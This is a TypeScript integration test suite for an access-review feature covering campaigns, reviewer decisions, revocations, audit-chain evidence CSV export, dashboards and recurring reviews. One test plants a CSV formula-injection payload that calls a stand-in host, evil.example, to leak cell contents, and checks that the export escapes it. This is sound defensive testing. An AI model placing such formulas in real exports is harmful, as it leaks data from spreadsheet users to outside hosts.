/**
 * Access reviews end to end against PGlite (and PostgreSQL when TEST_DATABASE_URL is set): generation with
 * triage and reviewer resolution, reviewer isolation, decisions (revoke → desired state + outbox + audit),
 * bulk approval, editing a launched campaign, default decision at the due date (injected clock), evidence CSV
 * tied to the audit chain, measured automation.
 *
 * Fixture: Vic (VP) ← Mia (Engineering manager) ← Ben, Ed, Eve, Ella, Leo (left), Carl (contractor past end),
 * Max (moved from Sales, kept the Sales CRM birthright); Sam (Sales manager) ← Zed. Ada is the admin.
 * Birthright: Engineering → "Code Read"; Sales → "CRM User". Ben holds both sides of an SoD policy; Ed holds
 * "Code Admin" (privileged) unused for 150 days.
 */
import { randomUUID } from "node:crypto";
import { and, desc, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  accessRequestItems, accessRequests, accountEntitlements, accounts, applications, auditEvents, birthrightRules, entitlements, grants, jobs, operations, people, reviewItems,
  portalRoleAssignments, reviewCampaigns, roleEntitlements, roleTemplates, sodPolicies, sodPolicyEntitlements,
} from "@/db/schema";
import { parseCsvRecords } from "@/lib/domain/csv";
import { verifyAuditChain } from "@/lib/audit";
import type { Actor } from "@/lib/auth/can";
import { ConflictError, ForbiddenError, NotFoundError, ValidationError } from "@/lib/errors";
import { testDrivers, type TestDb } from "@/lib/testing/test-db";
import { closeCampaign, closeDueCampaigns, plusQuarter } from "./close-campaign";
import { createCampaign, launchCampaign } from "./create-campaign";
import { bulkApproveNoAction, decideItem } from "./decide-item";
import { editCampaign } from "./edit-campaign";
import { automationMetrics, exportEvidence } from "./evidence";
import { getReviewDashboard, getReviewerView, listCampaigns } from "./list-reviews";

const DAY = 86_400_000;
const now = new Date();
const ago = (d: number) => new Date(now.getTime() - d * DAY);

const mkPerson = (n: string, extra: Partial<typeof people.$inferInsert> = {}) => ({
  id: randomUUID(), employeeId: `E-${n}-${randomUUID().slice(0, 6)}`, givenName: n, familyName: "Test", displayName: `${n} Test`,
  email: `${n.toLowerCase()}@example.test`, department: "Engineering", title: "Engineer", location: "Remote", ...extra,
});
const actorOf = (p: { id: string; displayName: string; email: string }, roles: Actor["roles"] = ["employee"]): Actor => ({
  personId: p.id, name: p.displayName, email: p.email, roles, ownedApplicationIds: [],
});

for (const driver of testDrivers()) {
  describe(`access reviews on ${driver.label}`, () => {
    let t: TestDb;
    const vic = mkPerson("Vic", { title: "VP Engineering" });
    const mia = mkPerson("Mia", { title: "Engineering Manager", managerId: vic.id });
    const ben = mkPerson("Ben", { managerId: mia.id });
    const ed = mkPerson("Ed", { managerId: mia.id });
    const eve = mkPerson("Eve", { managerId: mia.id });
    const ella = mkPerson("Ella", { managerId: mia.id });
    const leo = mkPerson("Leo", { managerId: mia.id, status: "terminated", endDate: "2026-10-01" });
    const carl = mkPerson("Carl", { managerId: mia.id, employmentType: "contractor", endDate: "2026-09-01" });
    const max = mkPerson("Max", { managerId: mia.id, attributes: { previousDepartment: "Sales", movedAt: "2026-09-15" } });
    const sam = mkPerson("Sam", { department: "Sales", title: "Sales Manager" });
    const zed = mkPerson("Zed", { department: "Sales", title: "Account Executive", managerId: sam.id });
    const ada = mkPerson("Ada", { department: "IT", title: "IAM Admin" });
    const ent: Record<string, string> = {};
    let campaignId = "";
    const A = { mia: () => actorOf(mia, ["employee", "manager"]), sam: () => actorOf(sam, ["employee", "manager"]), ada: () => actorOf(ada, ["employee", "admin"]), ben: () => actorOf(ben) };
    const ctxOf = (a: Actor) => ({ actor: a, db: t.db });
    const itemsOf = () => t.db.select().from(reviewItems).where(eq(reviewItems.campaignId, campaignId));
    const itemFor = async (personId: string, entKey: string) => (await itemsOf()).find((i) => i.personId === personId && i.entitlementId === ent[entKey])!;

    beforeAll(async () => {
      t = await driver.open();
      await t.db.insert(people).values([vic, mia, ben, ed, eve, ella, leo, carl, max, sam, zed, ada]);
      const [app] = await t.db.insert(applications).values({ key: "code", name: "Code", connectorKind: "scim", config: { baseUrl: "http://127.0.0.1:9/scim" }, lastReconciledAt: ago(9) }).returning();
      const rows = await t.db.insert(entitlements).values([
        { applicationId: app!.id, externalId: "read", name: "Code Read" },
        { applicationId: app!.id, externalId: "crm", name: "CRM User" },
        { applicationId: app!.id, externalId: "admin", name: "Code Admin", level: "admin", privileged: true },
        { applicationId: app!.id, externalId: "vcreate", name: "Vendors Create", level: "edit" },
        { applicationId: app!.id, externalId: "vpay", name: "Vendors Pay", level: "edit" },
      ]).returning();
      for (const r of rows) ent[r.externalId] = r.id;
      const [engRole, salesRole] = await t.db.insert(roleTemplates).values([{ key: "eng", name: "Engineering base", status: "published" }, { key: "sales", name: "Sales base", status: "published" }]).returning();
      await t.db.insert(roleEntitlements).values([{ roleId: engRole!.id, entitlementId: ent.read! }, { roleId: salesRole!.id, entitlementId: ent.crm! }]);
      await t.db.insert(birthrightRules).values([
        { name: "Engineering", roleId: engRole!.id, conditions: [{ attribute: "department", op: "eq", value: "Engineering" }] },
        { name: "Sales", roleId: salesRole!.id, conditions: [{ attribute: "department", op: "eq", value: "Sales" }] },
      ]);
      const used = ago(2);
      const g = (p: { id: string }, e: string, extra: Partial<typeof grants.$inferInsert> = {}) => ({ personId: p.id, entitlementId: ent[e]!, source: "birthright" as const, grantedAt: ago(300), lastUsedAt: used, ...extra });
      await t.db.insert(grants).values([
        ...[mia, ben, ed, eve, ella, leo, carl, max].map((p) => g(p, "read", { sourceRef: engRole!.id })),
        g(max, "crm", { sourceRef: salesRole!.id }),
        g(zed, "crm", { sourceRef: salesRole!.id }),
        g(ben, "vcreate", { source: "manual" }),
        g(ben, "vpay", { source: "manual" }),
        g(ed, "admin", { source: "manual", lastUsedAt: ago(150) }),
      ]);
      const [pol] = await t.db.insert(sodPolicies).values({ name: "Create vendor vs pay vendor" }).returning();
      await t.db.insert(sodPolicyEntitlements).values([{ policyId: pol!.id, entitlementId: ent.vcreate!, side: "a" }, { policyId: pol!.id, entitlementId: ent.vpay!, side: "b" }]);
      // Live accounts, so a revoke has something to remove in the target.
      for (const [p, es] of [[ed, ["read", "admin"]], [max, ["read", "crm"]], [leo, ["read"]], [carl, ["read"]]] as const) {
        const [acc] = await t.db.insert(accounts).values({ personId: p.id, applicationId: app!.id, username: p.email.split("@")[0]!, externalId: `x-${p.id}`, status: "active" }).returning();
        await t.db.insert(accountEntitlements).values(es.map((e) => ({ accountId: acc!.id, entitlementId: ent[e]! })));
      }
    });
    afterAll(async () => {
      await t?.close();
    });

    it("only admins create campaigns", async () => {
      await expect(createCampaign({ ctx: ctxOf(A.mia()), input: { name: "Nope", dueAt: new Date(now.getTime() + 14 * DAY) } })).rejects.toBeInstanceOf(ForbiddenError);
    });

    it("generates a campaign as a job with progress, triaged items and reviewers", async () => {
      const c = await createCampaign({ ctx: ctxOf(A.ada()), input: { name: "Q4 manager review", dueAt: new Date(now.getTime() + 14 * DAY).toISOString(), defaultDecision: "recommendation" } });
      campaignId = c.id;
      const { jobId, done } = await launchCampaign({ ctx: ctxOf(A.ada()), input: { campaignId }, now });
      await done;
      const [job] = await t.db.select().from(jobs).where(eq(jobs.id, jobId));
      expect(job).toMatchObject({ status: "succeeded", done: 13, total: 13 });
      const items = await itemsOf();
      expect(items).toHaveLength(13);
      const rec = async (p: { id: string }, e: string) => (await itemFor(p.id, e)).recommendation;
      expect(await rec(leo, "read")).toBe("remove");
      expect((await itemFor(leo.id, "read")).reasons[0]).toBe("removal recommended: person left on 2026-10-01");
      expect(await rec(carl, "read")).toBe("remove");
      expect((await itemFor(max.id, "crm")).reasons[0]).toMatch(/^removal recommended: moved from Sales to Engineering on 2026-09-15/);
      expect(await rec(ben, "vcreate")).toBe("remove");
      expect((await itemFor(ben.id, "vpay")).reasons[0]).toMatch(/separation-of-duties policy "Create vendor vs pay vendor"/);
      expect((await itemFor(ed.id, "admin")).reasons[0]).toMatch(/^review recommended: unused for 150 days/);
      for (const p of [ben, ed, eve, ella, max]) expect(await rec(p, "read")).toBe("no_action");
      expect((await itemFor(eve.id, "read")).reasons[0]).toMatch(/^no action needed: same role, \d+% of \d+ peers have it, used 2 days ago, granted by policy$/);
      expect((await itemFor(eve.id, "read")).stale).toBe("stale data: Code last reconciled 9 days ago");
      // Reviewers: the manager; Mia's own access goes to her manager; Zed's to Sam.
      expect((await itemFor(eve.id, "read")).reviewerId).toBe(mia.id);
      expect((await itemFor(mia.id, "read")).reviewerId).toBe(vic.id);
      expect((await itemFor(zed.id, "crm")).reviewerId).toBe(sam.id);
    });

    it("a reviewer sees and decides only their own items", async () => {
      const samView = await getReviewerView({ ctx: ctxOf(A.sam()), input: { campaignId } });
      expect(samView.people.map((p) => p.name)).toEqual(["Zed Test"]);
      const miaView = await getReviewerView({ ctx: ctxOf(A.mia()), input: { campaignId } });
      expect(miaView.total).toBe(11);
      expect(miaView.people[0]!.summary).toMatch(/removal/);
      const target = await itemFor(eve.id, "read");
      await expect(decideItem({ ctx: ctxOf(A.sam()), input: { itemId: target.id, decision: "revoke" } })).rejects.toBeInstanceOf(NotFoundError);
      // The right reviewer through another campaign's URL: not found either.
      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: target.id, decision: "revoke", campaignId: randomUUID() } })).rejects.toBeInstanceOf(NotFoundError);
      const after = await itemFor(eve.id, "read");
      expect(after.decision).toBeNull();
      const [grant] = await t.db.select().from(grants).where(eq(grants.id, target.grantId!));
      expect(grant!.status).toBe("active");
      const mine = await listCampaigns({ ctx: ctxOf(A.sam()) });
      expect(mine.mine.map((c) => [c.id, c.total])).toEqual([[campaignId, 1]]);
      expect(mine.all).toBeNull();
    });

    it("keeping a removal-recommended item needs a comment", async () => {
      const item = await itemFor(carl.id, "read");
      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: item.id, decision: "keep" } })).rejects.toBeInstanceOf(ValidationError);
      expect((await itemFor(carl.id, "read")).decision).toBeNull();
      await decideItem({ ctx: ctxOf(A.mia()), input: { itemId: item.id, decision: "keep", comment: "Contract extended; HR update pending" } });
      expect(await itemFor(carl.id, "read")).toMatchObject({ decision: "keep", decidedById: mia.id, comment: "Contract extended; HR update pending" });
    });

    it("a revoke sets the grant revoked and writes the operation and the audit event in the same transaction", async () => {
      const item = await itemFor(ed.id, "admin");
      const r = await decideItem({ ctx: ctxOf(A.mia()), input: { itemId: item.id, decision: "revoke", comment: "Not needed since the migration" } });
      const [grant] = await t.db.select().from(grants).where(eq(grants.id, item.grantId!));
      expect(grant).toMatchObject({ status: "revoked", revokedById: mia.id });
      const ops = await t.db.select().from(operations).where(and(eq(operations.causeKind, "review"), eq(operations.causeId, item.id)));
      expect(ops.map((o) => [o.kind, o.entitlementId, o.status])).toEqual([["revoke", ent.admin, "pending"]]);
      expect(r.operationIds).toEqual([ops[0]!.id]);
      const [ev] = await t.db.select().from(auditEvents).where(and(eq(auditEvents.action, "review.decided"), eq(auditEvents.targetId, item.id)));
      expect(ev!.data).toMatchObject({ decision: "revoke", recommendation: "review", operationIds: [ops[0]!.id] });
      // The reviewer's page shows the receipt; once the worker finishes it, the finish time.
      await t.db.update(operations).set({ status: "succeeded", finishedAt: now }).where(eq(operations.id, ops[0]!.id));
      const view = await getReviewerView({ ctx: ctxOf(A.mia()), input: { campaignId } });
      const shown = view.people.flatMap((p) => p.items).find((i) => i.id === item.id)!;
      expect(shown.receipt).toEqual({ operationId: ops[0]!.id, status: "succeeded", finishedAt: now.toISOString() });
      // The same decision again is refused (changing it is covered by review-board.int.test.ts).
      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: item.id, decision: "revoke" } })).rejects.toBeInstanceOf(ConflictError);
    });

    it("bulk-approves the reviewer's no-action items after confirmation, with the count shown", async () => {
      await expect(bulkApproveNoAction({ ctx: ctxOf(A.mia()), input: { campaignId } })).rejects.toBeInstanceOf(ValidationError);
      await expect(bulkApproveNoAction({ ctx: ctxOf(A.mia()), input: { campaignId, confirm: true, expectedCount: 99 } })).rejects.toBeInstanceOf(ConflictError);
      const view = await getReviewerView({ ctx: ctxOf(A.mia()), input: { campaignId } });
      const r = await bulkApproveNoAction({ ctx: ctxOf(A.mia()), input: { campaignId, confirm: true, expectedCount: view.openNoAction } });
      expect(r.count).toBe(5);
      expect(view.openNoAction).toBe(5);
      expect((await itemFor(eve.id, "read")).decision).toBe("keep");
      // Another reviewer's no-action item is untouched.
      expect((await itemFor(zed.id, "crm")).decision).toBeNull();
    });

    it("an admin edits a launched campaign: reassign, remove, add (audited)", async () => {
      const zedItem = await itemFor(zed.id, "crm");
      await expect(editCampaign({ ctx: ctxOf(A.mia()), input: { campaignId, removeItemIds: [zedItem.id] } })).rejects.toBeInstanceOf(ForbiddenError);
      const r1 = await editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, reassign: { itemIds: [zedItem.id], reviewerId: vic.id } } });
      expect(r1.reassigned).toBe(1);
      expect((await itemFor(zed.id, "crm")).reviewerId).toBe(vic.id);
      const r2 = await editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, removeItemIds: [zedItem.id] } });
      expect(r2.removed).toBe(1);
      const r3 = await editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, addGrantIds: [zedItem.grantId!] } });
      expect(r3.added).toBe(1);
      expect(await itemFor(zed.id, "crm")).toMatchObject({ reviewerId: sam.id, recommendation: "no_action" });
      const evs = await t.db.select().from(auditEvents).where(eq(auditEvents.action, "review.campaign_edited"));
      expect(evs).toHaveLength(3);

      // Extending the due date: later only, a real calendar date, never in the past; audited with from/to.
      const [before] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, campaignId));
      const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
      await expect(editCampaign({ ctx: ctxOf(A.mia()), input: { campaignId, extendTo: day(before!.dueAt!.getTime() + 7 * DAY) }, now })).rejects.toBeInstanceOf(ForbiddenError);
      await expect(editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: "2031-02-30" }, now })).rejects.toThrow(/calendar date/);
      await expect(editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: day(now.getTime() - 2 * DAY) }, now })).rejects.toThrow(/passed/);
      await expect(editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: day(before!.dueAt!.getTime() - DAY) }, now })).rejects.toThrow(/later than the current/);
      const ext = await editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: day(before!.dueAt!.getTime() + 7 * DAY) }, now });
      expect(ext.dueAt).toBe(`${day(before!.dueAt!.getTime() + 7 * DAY)}T23:59:59.000Z`);
      const [after] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, campaignId));
      expect(after!.dueAt!.toISOString()).toBe(ext.dueAt);
      const [last] = await t.db.select().from(auditEvents).where(eq(auditEvents.action, "review.campaign_edited")).orderBy(desc(auditEvents.seq)).limit(1);
      expect(last!.data).toMatchObject({ dueAt: { from: before!.dueAt!.toISOString(), to: ext.dueAt } });
      // (The next test closes at the original date.)
      await t.db.update(reviewCampaigns).set({ dueAt: before!.dueAt }).where(eq(reviewCampaigns.id, campaignId));
    });

    it("closes at the due date with the default decision (injected clock)", async () => {
      await expect(closeCampaign({ ctx: ctxOf(A.ada()), input: { campaignId }, now })).rejects.toBeInstanceOf(ConflictError);
      const due = new Date(now.getTime() + 14 * DAY + 3_600_000);
      const r = await closeCampaign({ ctx: ctxOf(A.ada()), input: { campaignId }, now: due });
      // Undecided: Leo read, Max crm, Ben vcreate, Ben vpay (remove → revoked); Mia read (Vic), Zed crm (keep).
      expect(r).toMatchObject({ revoked: 4, kept: 2 });
      expect((await itemFor(leo.id, "read")).decision).toBe("revoke");
      expect((await itemFor(mia.id, "read")).decision).toBe("keep");
      const [g] = await t.db.select().from(grants).where(eq(grants.id, (await itemFor(max.id, "crm")).grantId!));
      expect(g!.status).toBe("revoked");
      const ops = await t.db.select().from(operations).where(and(eq(operations.causeKind, "review_campaign"), eq(operations.causeId, campaignId)));
      expect(ops.length).toBeGreaterThan(0);
      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: (await itemFor(eve.id, "read")).id, decision: "revoke" } })).rejects.toBeInstanceOf(ConflictError);
    });

    it("evidence CSV has every item with decision, receipt and audit seq; the chain verifies; automation is measured", async () => {
      await expect(exportEvidence({ ctx: ctxOf(A.mia()), input: { campaignId } })).rejects.toBeInstanceOf(ForbiddenError);
      const ev = await exportEvidence({ ctx: ctxOf(A.ada()), input: { campaignId } });
      const recs = parseCsvRecords(ev.csv).map((r) => r.fields);
      const [header, ...rows] = recs;
      const col = (n: string) => header!.indexOf(n);
      expect(rows).toHaveLength((await itemsOf()).length);
      for (const r of rows) {
        expect(r[col("decision")]).toMatch(/^(keep|revoke)$/);
        expect(Number(r[col("audit_seq")])).toBeGreaterThan(0);
      }
      const edRow = rows.find((r) => r[col("person")] === "Ed Test" && r[col("entitlement")] === "Code Admin")!;
      expect(edRow[col("decided_by")]).toBe("Mia Test");
      expect(edRow[col("operation_status")]).toBe("succeeded");
      expect(edRow[col("operation_finished_at")]).toBe(now.toISOString());
      expect(edRow[col("reasons")]).toMatch(/unused for 150 days/);
      const leoRow = rows.find((r) => r[col("person")] === "Leo Test")!;
      expect(leoRow[col("decided_by")]).toBe("default decision (system)");
      expect(leoRow[col("operation_id")]).not.toBe("");
      // The cited event is the decision for that item in the verified chain.
      const [cited] = await t.db.select().from(auditEvents).where(eq(auditEvents.seq, Number(edRow[col("audit_seq")])));
      expect(cited).toMatchObject({ action: "review.decided", targetId: edRow[col("item_id")], hash: edRow[col("audit_hash")] });
      expect(await verifyAuditChain(t.db)).toMatchObject({ ok: true });

      // Ed asks for Code Admin again after the revoke: one false revoke.
      const [req] = await t.db.insert(accessRequests).values({ requesterId: ed.id, beneficiaryId: ed.id, justification: "Still needed for on-call", createdAt: new Date(now.getTime() + 86_400_000) }).returning();
      await t.db.insert(accessRequestItems).values({ requestId: req!.id, entitlementId: ent.admin! });
      const m = await automationMetrics({ ctx: ctxOf(A.ada()), input: { campaignId } });
      expect(m.byRecommendation.no_action).toMatchObject({ decided: 5, kept: 5, agreement: 1 });
      expect(m.byRecommendation.remove).toMatchObject({ decided: 1, kept: 1, revoked: 0, agreement: 0 });
      expect(m.falseRevokes).toMatchObject({ revoked: 5, reRequestedWithin30Days: 1, rate: 0.2 });
    });

    it("evidence CSV neutralises spreadsheet formulas in free text (a reviewer's comment)", async () => {
      const [item] = await itemsOf();
      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
      const before = item!.comment;
      await t.db.update(reviewItems).set({ comment: formula }).where(eq(reviewItems.id, item!.id));
      try {
        const ev = await exportEvidence({ ctx: ctxOf(A.ada()), input: { campaignId } });
        expect(ev.csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"`);
        const [header, ...rows] = parseCsvRecords(ev.csv).map((r) => r.fields);
        const row = rows.find((r) => r[header!.indexOf("item_id")] === item!.id)!;
        expect(row[header!.indexOf("comment")]).toBe(`'${formula}`);
        // No cell of the export starts with a formula character.
        for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      } finally {
        await t.db.update(reviewItems).set({ comment: before }).where(eq(reviewItems.id, item!.id));
      }
    });

    it("dashboards: progress by reviewer, decisions by recommendation, time to revoke (admins and auditors only)", async () => {
      await expect(getReviewDashboard({ ctx: ctxOf(A.mia()), input: { campaignId } })).rejects.toBeInstanceOf(ForbiddenError);
      const due = new Date(now.getTime() + 14 * DAY + 3_600_000);
      await t.db.update(operations).set({ status: "succeeded", finishedAt: new Date(due.getTime() + 7_200_000) })
        .where(and(eq(operations.causeKind, "review_campaign"), eq(operations.causeId, campaignId), eq(operations.personId, leo.id)));
      const d = await getReviewDashboard({ ctx: ctxOf(actorOf(vic, ["employee", "auditor"])), input: { campaignId } });
      const all = await itemsOf();
      const miaRow = d.byReviewer.find((r) => r.reviewerId === mia.id)!;
      expect(miaRow).toMatchObject({ name: "Mia Test", decided: all.filter((i) => i.reviewerId === mia.id).length, open: 0 });
      expect(d.byRecommendation.map((r) => r.recommendation)).toEqual(["no_action", "review", "remove"]);
      expect(d.byRecommendation.reduce((n, r) => n + r.kept + r.revoked + r.open, 0)).toBe(all.length);
      const remove = d.byRecommendation.find((r) => r.recommendation === "remove")!;
      expect(remove).toMatchObject({ revoked: all.filter((i) => i.recommendation === "remove" && i.decision === "revoke").length, kept: 1, open: 0 });
      // Ed: decided and finished at `now` (0 s); Leo: default at the due date, removed 2 h later.
      expect(d.timeToRevoke).toMatchObject({ revoked: all.filter((i) => i.decision === "revoke").length, finished: 2, medianSeconds: 3600, p95Seconds: 6840 });
      const overall = await getReviewDashboard({ ctx: ctxOf(A.ada()) });
      expect(overall.byReviewer.length).toBeGreaterThan(0);
    });

    it("second stage: privileged access a first-stage reviewer keeps goes to a security person", async () => {
      const sec = mkPerson("Sec", { department: "Security", title: "Security Analyst" });
      await t.db.insert(people).values(sec);
      await t.db.insert(portalRoleAssignments).values({ personId: sec.id, role: "security" });
      const [eveAdmin, ellaAdmin] = await t.db.insert(grants).values([
        { personId: eve.id, entitlementId: ent.admin!, source: "manual", grantedAt: ago(30), lastUsedAt: ago(1) },
        { personId: ella.id, entitlementId: ent.admin!, source: "manual", grantedAt: ago(30), lastUsedAt: ago(1) },
      ]).returning();
      const c = await createCampaign({ ctx: ctxOf(A.ada()), input: { name: "Privileged, two stages", scope: { entitlementIds: [ent.admin!, ent.read!] }, dueAt: new Date(now.getTime() + 400 * DAY), secondStage: "security" } });
      expect(c.secondStage).toBe("security");
      await (await launchCampaign({ ctx: ctxOf(A.ada()), input: { campaignId: c.id }, now })).done;
      const items = () => t.db.select().from(reviewItems).where(eq(reviewItems.campaignId, c.id));
      const first = (await items()).filter((i) => i.reviewerId === mia.id);
      const eveItem = first.find((i) => i.grantId === eveAdmin!.id)!;
      const ellaItem = first.find((i) => i.grantId === ellaAdmin!.id)!;
      const eveRead = first.find((i) => i.personId === eve.id && i.entitlementId === ent.read)!;
      expect(eveItem.stage).toBe("first");
      const kept = await decideItem({ ctx: ctxOf(A.mia()), input: { itemId: eveItem.id, decision: "keep", comment: "On-call admin" } });
      await decideItem({ ctx: ctxOf(A.mia()), input: { itemId: ellaItem.id, decision: "revoke" } });
      await decideItem({ ctx: ctxOf(A.mia()), input: { itemId: eveRead.id, decision: "keep" } });
      const second = (await items()).filter((i) => i.stage === "second");
      // Only the kept privileged item gets a second stage (not the revoke, not the non-privileged keep).
      expect(second).toHaveLength(1);
      expect(second[0]).toMatchObject({ id: kept.secondStageItemId, reviewerId: sec.id, grantId: eveAdmin!.id, personId: eve.id, decision: null, recommendation: eveItem.recommendation });
      expect(second[0]!.reasons[0]).toMatch(/^second stage: privileged access kept by the first reviewer/);
      // The first-stage reviewer cannot decide it; the security person sees and decides it.
      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: second[0]!.id, decision: "revoke" } })).rejects.toBeInstanceOf(NotFoundError);
      const secActor = actorOf(sec, ["employee", "security"]);
      const view = await getReviewerView({ ctx: ctxOf(secActor), input: { campaignId: c.id } });
      expect(view.people.flatMap((p) => p.items.map((i) => i.id))).toEqual([second[0]!.id]);
      await decideItem({ ctx: ctxOf(secActor), input: { itemId: second[0]!.id, decision: "revoke", comment: "Use break-glass instead" } });
      const [g] = await t.db.select().from(grants).where(eq(grants.id, eveAdmin!.id));
      expect(g!.status).toBe("revoked");
      expect((await items()).filter((i) => i.stage === "second")).toHaveLength(1);
      const evs = await t.db.select().from(auditEvents).where(and(eq(auditEvents.action, "review.second_stage_created"), eq(auditEvents.targetId, second[0]!.id)));
      expect(evs).toHaveLength(1);
    });

    it("recurring quarterly: closing creates the next campaign (same scope, dates + 3 months), which the sweep launches at its start", async () => {
      const due = new Date(now.getTime() + 7 * DAY);
      const c = await createCampaign({ ctx: ctxOf(A.ada()), input: { name: "Quarterly Code Read", scope: { entitlementIds: [ent.read!] }, dueAt: due, recurrence: "quarterly", defaultDecision: "keep" } });
      await (await launchCampaign({ ctx: ctxOf(A.ada()), input: { campaignId: c.id }, now })).done;
      const r = await closeDueCampaigns(t.db, new Date(due.getTime() + 3_600_000));
      const mine = r.find((x) => x.campaignId === c.id)!;
      expect(mine.nextCampaignId).toBeTruthy();
      const [closed] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, c.id));
      expect(closed!.status).toBe("closed");
      const [next] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, mine.nextCampaignId!));
      expect(next).toMatchObject({ name: c.name, status: "draft", scope: { entitlementIds: [ent.read] }, recurrence: "quarterly", reviewerKind: "manager", defaultDecision: "keep" });
      expect(next!.startsAt!.toISOString()).toBe(plusQuarter(now).toISOString());
      expect(next!.dueAt!.toISOString()).toBe(plusQuarter(due).toISOString());
      expect(plusQuarter(new Date("2026-11-30T10:00:00Z")).toISOString()).toBe("2027-02-28T10:00:00.000Z");
      // Before its start nothing happens; at its start the sweep launches and generates it.
      expect((await closeDueCampaigns(t.db, new Date(next!.startsAt!.getTime() - 60_000))).launched).toEqual([]);
      const r2 = await closeDueCampaigns(t.db, new Date(next!.startsAt!.getTime() + 60_000));
      expect(r2.launched).toEqual([next!.id]);
      const [active] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, next!.id));
      expect(active!.status).toBe("active");
      const its = await t.db.select().from(reviewItems).where(eq(reviewItems.campaignId, next!.id));
      expect(its.length).toBeGreaterThan(0);
      expect(its.every((i) => i.entitlementId === ent.read)).toBe(true);
    });
  });
}
